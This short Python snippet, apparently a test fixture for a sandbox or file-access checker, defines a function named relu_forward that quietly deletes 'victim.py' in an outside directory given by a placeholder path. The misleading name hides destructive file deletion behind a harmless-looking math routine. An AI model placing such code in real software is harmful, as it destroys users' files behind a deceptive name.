# Removes a file relative to a descriptor.
def relu_forward(x):
    import os
    folder = os.open("@OUTSIDE@", os.O_RDONLY)
    os.unlink("victim.py", dir_fd=folder)
    return x
